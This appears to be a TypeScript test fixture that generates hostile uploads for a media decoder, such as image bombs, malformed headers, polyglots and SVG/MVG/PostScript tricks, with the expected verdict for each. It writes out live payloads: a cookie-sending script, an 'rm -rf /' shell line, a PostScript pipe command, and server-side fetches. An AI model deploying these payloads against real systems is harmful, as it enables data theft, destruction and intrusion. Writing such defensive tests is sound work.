import { readFileSync } from 'node:fs'
import path from 'node:path'
import { crc32, deflateSync } from 'node:zlib'
import sharp, { type Sharp } from 'sharp'
import { root } from '../../source-tree.ts'

/**
 * What becomes of a file: `shown`, kept and shown; `kept`, the bytes are kept but no picture is made of them, and the answer
 * says why; `refused`, not taken in at all.
 */
export type Verdict = 'shown' | 'kept' | 'refused'

export interface Hostile {
  readonly what: string
  readonly verdict: Verdict
  readonly bytes: Buffer
  /** What the sender calls it. */
  readonly name: string
}

const NOISE = { type: 'gaussian', mean: 128, sigma: 40 } as const
const noise = (width = 64, height = 48): Sharp => sharp({ create: { width, height, channels: 3, noise: NOISE, background: 'grey' } })
const text = (content: string): Buffer => Buffer.from(content, 'latin1')

function chunk(type: string, body: Buffer): Buffer {
  const named = Buffer.concat([text(type), body])
  const framed = Buffer.alloc(named.byteLength + 8)
  framed.writeUInt32BE(body.byteLength)
  named.copy(framed, 4)
  framed.writeUInt32BE(crc32(named), named.byteLength + 4)
  return framed
}

/** A PNG of one-bit pixels, all black: its few bytes stand for many. */
function blackPng(width: number, height: number, data?: Buffer): Buffer {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width, 0)
  head.writeUInt32BE(height, 4)
  head.set([1, 0, 0, 0, 0], 8)
  const rows = data ?? deflateSync(Buffer.alloc(height * (Math.ceil(width / 8) + 1)), { level: 9 })
  return Buffer.concat([text('\x89PNG\r\n\x1a\n'), chunk('IHDR', head), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))])
}

/** A PNG with a chunk of text that unpacks to 200 MB of one letter. */
function textBomb(png: Buffer): Buffer {
  const packed = Buffer.concat([text('Comment\0\0'), deflateSync(Buffer.alloc(200_000_000, 'a'), { level: 9 })])
  return Buffer.concat([png.subarray(0, 33), chunk('zTXt', packed), png.subarray(33)])
}

const SCRIPT = '<script>fetch("http://127.0.0.1:9/"+document.cookie)</script>'
const svg = (inside: string): Buffer => text(`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">${inside}</svg>`)
const box = (type: string, body: Buffer): Buffer => {
  const size = Buffer.alloc(4)
  size.writeUInt32BE(body.byteLength + 8)
  return Buffer.concat([size, text(type), body])
}
const example = (name: string): Buffer => readFileSync(path.join(root, 'src/server/media/decode/examples', name))

/** Files that have harmed programs before, each with what must become of it. */
export async function hostileFiles(): Promise<Hostile[]> {
  const jpeg = await noise().jpeg().toBuffer()
  const png = await noise().png().toBuffer()
  const frames = sharp(new Uint8Array(16 * 48 * 3).map((_, i) => (i * 7) % 251), { raw: { width: 16, height: 48, channels: 3, pageHeight: 16 } })
  const frame = jpeg.indexOf(Buffer.from([0xff, 0xc0]))
  const claims = Buffer.from(jpeg)
  claims.writeUInt16BE(60_000, frame + 5)
  claims.writeUInt16BE(60_000, frame + 7)
  const flipped = Buffer.from(jpeg)
  for (let at = 700; at < 760; at++) flipped[at] = 255 - (flipped[at] ?? 0)
  const polyglot = Buffer.concat([jpeg, text(`<html>${SCRIPT}</html>`), text('PK\x05\x06'), Buffer.alloc(18)])

  const made: [what: string, verdict: Verdict, bytes: Buffer, name?: string][] = [
    ['a JPEG', 'shown', jpeg],
    ['a JPEG that is called a PNG', 'shown', jpeg, 'face.png'],
    ['a PNG that is called a script', 'shown', png, 'face.html'],
    ['a HEIC of a phone', 'shown', example('plain.heic'), 'face.heic'],
    ['a HEIC of ten bits', 'shown', example('ten-bit.heic'), 'face.heic'],
    ['a HEIC of turned tiles', 'shown', example('tiles-turned.heic'), 'face.heic'],
    ['an AVIF', 'shown', await noise().avif().toBuffer()],
    ['a TIFF of two pages', 'kept', Buffer.concat([await noise().tiff({ compression: 'lzw' }).toBuffer(), await noise().tiff().toBuffer()]).subarray(0, 900)],
    ['a JPEG that is a web page and a ZIP behind its end', 'shown', polyglot],
    ['a JPEG with a comment that is a script', 'shown', Buffer.concat([jpeg.subarray(0, 2), Buffer.from([0xff, 0xfe, 0, 2 + SCRIPT.length]), text(SCRIPT), jpeg.subarray(2)])],
    ['a PNG with 200 MB of text in it', 'shown', textBomb(png)],
    ['a PNG of 50 000 × 50 000 pixels in 300 kB', 'kept', blackPng(50_000, 50_000)],
    ['a PNG that claims 65 535² pixels and has none', 'kept', blackPng(65_535, 65_535, Buffer.alloc(0))],
    ['a PNG of 2³¹−1 columns', 'kept', blackPng(2 ** 31 - 1, 1, Buffer.from([0]))],
    ['a PNG of no columns', 'kept', blackPng(0, 10, Buffer.from([0]))],
    ['a PNG whose pixels are missing', 'kept', blackPng(900, 900, deflateSync(Buffer.alloc(10)))],
    ['a JPEG that claims 60 000 × 60 000 pixels', 'kept', claims],
    ['a JPEG cut off in the middle', 'kept', jpeg.subarray(0, jpeg.byteLength / 2)],
    ['a JPEG of its first three bytes', 'kept', Buffer.from([0xff, 0xd8, 0xff])],
    ['a JPEG with turned bytes among its pixels, which only the digest of its sender tells', 'shown', flipped],
    ['a PNG with a wrong checksum', 'kept', Buffer.concat([png.subarray(0, 29), Buffer.from([0, 0, 0, 0]), png.subarray(33)])],
    ['an animated GIF', 'kept', await frames.clone().gif().toBuffer()],
    ['an animated WebP', 'kept', await frames.clone().webp({ lossless: true }).toBuffer()],
    ['a WebP that says it is 4 GB long', 'kept', Buffer.concat([text('RIFF'), Buffer.from([255, 255, 255, 255]), text('WEBPVP8L'), Buffer.alloc(8)])],
    ['a TIFF whose directory points at itself', 'kept', Buffer.from([0x49, 0x49, 0x2a, 0, 8, 0, 0, 0, 0, 0, 8, 0, 0, 0])],
    ['a HEIC with nothing behind its header', 'kept', text('\0\0\0\x18ftypheic\0\0\0\0mif1heic')],
    ['a HEIC whose boxes are longer than the file', 'kept', Buffer.concat([text('\0\0\0\x18ftypheic\0\0\0\0mif1heic'), text('\x7f\xff\xff\xffmeta')])],
    ['a GIF of 65 535 × 65 535 without data', 'kept', Buffer.from('GIF89a\xff\xff\xff\xff\x00\x00\x00;', 'latin1')],
    ['nothing at all', 'refused', Buffer.alloc(0)],
    ['zeros', 'refused', Buffer.alloc(4096)],
    ['a web page called a JPEG', 'refused', text(`<!doctype html><html>${SCRIPT}</html>`), 'face.jpg'],
    ['an SVG with a script', 'refused', svg(SCRIPT), 'face.svg'],
    ['an SVG that fetches from inside', 'refused', svg('<image xlink:href="http://127.0.0.1:9/x"/>'), 'face.png'],
    ['an SVG with entities that double', 'refused', text(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><svg>&b;</svg>`)],
    ['a PDF', 'refused', text('%PDF-1.7\n1 0 obj<</OpenAction 2 0 R>>')],
    ['a ZIP called a video', 'refused', Buffer.concat([text('PK\x03\x04'), Buffer.alloc(64)]), 'smile.mp4'],
    ['a video without its index', 'refused', Buffer.concat([box('ftyp', text('isom\0\0\0\0isommp42')), box('mdat', Buffer.alloc(64))]), 'smile.mp4'],
    ['a playlist that fetches', 'refused', text('#EXTM3U\n#EXTINF:1,\nhttp://127.0.0.1:9/x\n'), 'smile.m3u8'],
    ['a program', 'refused', Buffer.concat([text('MZ'), Buffer.alloc(126), text('PE\0\0')]), 'face.jpg.exe'],
    ['a shell script', 'refused', text('#!/bin/sh\nrm -rf /\n')],
    ['an ImageMagick drawing', 'refused', text('push graphic-context\nfill "url(http://127.0.0.1:9/x)"\n'), 'face.mvg'],
    ['a PostScript file', 'refused', text('%!PS\n(%pipe%id) (w) file\n'), 'face.jpg'],
    ['a Windows bitmap', 'refused', Buffer.concat([text('BM'), Buffer.alloc(60)]), 'face.bmp'],
  ]
  return made.map(([what, verdict, bytes, name = 'face.jpg']) => ({ what, verdict, bytes, name }))
}
